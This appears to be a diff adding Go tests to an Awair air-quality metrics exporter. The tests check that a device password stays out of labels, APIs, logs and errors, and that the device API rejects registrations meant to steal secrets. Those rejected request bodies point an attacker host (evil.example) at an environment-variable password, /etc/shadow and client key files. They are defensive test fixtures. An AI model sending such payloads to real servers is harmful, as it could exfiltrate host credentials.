@@ -0,0 +1,155 @@
+package exporter
+
+import (
+	"encoding/base64"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"go.uber.org/zap"
+	"go.uber.org/zap/zapcore"
+	"go.uber.org/zap/zaptest/observer"
+)
+
+const (
+	testDeviceUsername    = "awair"
+	testDevicePassword    = "d3vice-pa55word"
+	testDevicePasswordEnv = "AWAIR_TEST_DEVICE_PASSWORD"
+)
+
+// TestDeviceBasicAuthDoesNotLeak polls a device behind basic auth, through
+// a success and a failure, and checks that its password is sent to it but
+// shows up nowhere else: not in the series' labels, the JSON APIs, the logs
+// or the errors.
+func TestDeviceBasicAuthDoesNotLeak(t *testing.T) {
+	t.Setenv(testDevicePasswordEnv, testDevicePassword)
+
+	var failing int32
+	device := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		username, password, ok := r.BasicAuth()
+		if !ok || username != testDeviceUsername || password != testDevicePassword || atomic.LoadInt32(&failing) == 1 {
+			w.Header().Set("WWW-Authenticate", `Basic realm="awair"`)
+			http.Error(w, "Unauthorized", http.StatusUnauthorized)
+			return
+		}
+		w.Header().Set("Content-Type", "application/json")
+		fmt.Fprint(w, `{"timestamp": "2022-06-01T12:00:00Z", "score": 92, "temp": 21.5, "humid": 40, "co2": 600, "voc": 150, "pm25": 3}`)
+	}))
+	defer device.Close()
+	address := device.URL + "/air-data/latest"
+
+	devicesFile := filepath.Join(t.TempDir(), "devices.json")
+	entries := fmt.Sprintf(`[{"url": %q, "name": "bedroom", "basic_auth": {"username": %q, "password_env": %q}}]`, address, testDeviceUsername, testDevicePasswordEnv)
+	if err := ioutil.WriteFile(devicesFile, []byte(entries), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	core, logs := observer.New(zapcore.DebugLevel)
+	app := newTestApp(t, nil, func(app *App) {
+		if err := app.Apply(WithLogger(zap.New(core).Sugar(), zap.NewAtomicLevelAt(zap.DebugLevel))); err != nil {
+			t.Fatal(err)
+		}
+		app.httpClient = device.Client()
+		app.DevicesFile = devicesFile
+	})
+	server := httptest.NewServer(app.routes())
+	defer server.Close()
+
+	pollOnce(app)
+	if got, _ := metricValue(t, app, "awair_device_up", map[string]string{"device_address": address}); got != 1 {
+		t.Fatalf("awair_device_up = %v, want 1 with the credentials sent", got)
+	}
+	atomic.StoreInt32(&failing, 1)
+	pollOnce(app)
+	if got, _ := metricValue(t, app, "awair_device_up", map[string]string{"device_address": address}); got != 0 {
+		t.Fatalf("awair_device_up = %v, want 0 once the device rejects the credentials", got)
+	}
+
+	secrets := []string{
+		testDevicePassword,
+		base64.StdEncoding.EncodeToString([]byte(testDeviceUsername + ":" + testDevicePassword)),
+	}
+	checkNoSecret := func(where, text string) {
+		t.Helper()
+		for _, secret := range secrets {
+			if strings.Contains(text, secret) {
+				t.Errorf("%s leaks the device password: %s", where, text)
+			}
+		}
+	}
+
+	families, err := app.Gatherer.Gather()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, family := range families {
+		for _, metric := range family.GetMetric() {
+			for _, label := range metric.GetLabel() {
+				checkNoSecret(fmt.Sprintf("label %s of %s", label.GetName(), family.GetName()), label.GetValue())
+				if label.GetName() == "device_address" && label.GetValue() != address {
+					t.Errorf("device_address of %s = %q, want %q", family.GetName(), label.GetValue(), address)
+				}
+			}
+		}
+	}
+
+	for _, path := range []string{"/metrics", "/api/v1/devices", "/api/v1/readings", "/api/v1/aggregates", "/debug/errors", "/debug/last?device=bedroom", "/debug/vars", "/dashboard"} {
+		resp, err := http.Get(server.URL + path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		body, _ := ioutil.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusOK {
+			t.Errorf("GET %s = %d, want 200", path, resp.StatusCode)
+		}
+		checkNoSecret("GET "+path, string(body))
+	}
+
+	var config strings.Builder
+	app.PrintConfig(&config)
+	checkNoSecret("print_config", config.String())
+
+	if logs.Len() == 0 {
+		t.Fatal("nothing was logged")
+	}
+	for _, entry := range logs.All() {
+		checkNoSecret("log line", fmt.Sprintf("%s %v", entry.Message, entry.ContextMap()))
+	}
+
+	polled, _ := app.LookupDevice(address)
+	status := polled.Status()
+	if status.LastError == "" {
+		t.Errorf("no error recorded for the failed poll")
+	}
+	checkNoSecret("the poll error", status.LastError)
+	checkNoSecret("device status", fmt.Sprintf("%+v", status))
+}
+
+func TestAPIRejectsHostSecrets(t *testing.T) {
+	t.Setenv(testDevicePasswordEnv, testDevicePassword)
+	server := newAuthTestServer(t, testAdminToken)
+	admin := func(r *http.Request) {
+		r.Header.Set("Authorization", "Bearer "+testAdminToken)
+	}
+
+	for _, body := range []string{
+		fmt.Sprintf(`{"url": "http://evil.example/air-data/latest", "basic_auth": {"username": "x", "password_env": %q}}`, testDevicePasswordEnv),
+		`{"url": "http://evil.example/air-data/latest", "basic_auth": {"username": "x", "password_file": "/etc/shadow"}}`,
+		`{"url": "http://evil.example/air-data/latest", "client_cert": "/etc/ssl/client.pem", "client_key": "/etc/ssl/client.key"}`,
+	} {
+		if resp := doRequest(t, server, http.MethodPost, "/api/v1/devices", body, admin); resp.StatusCode != http.StatusBadRequest {
+			t.Errorf("POST /api/v1/devices %s = %d, want 400", body, resp.StatusCode)
+		}
+	}
+
+	body := `{"url": "http://allowed.example/air-data/latest"}`
+	if resp := doRequest(t, server, http.MethodPost, "/api/v1/devices", body, admin); resp.StatusCode != http.StatusCreated {
+		t.Errorf("POST /api/v1/devices %s = %d, want 201", body, resp.StatusCode)
+	}
+}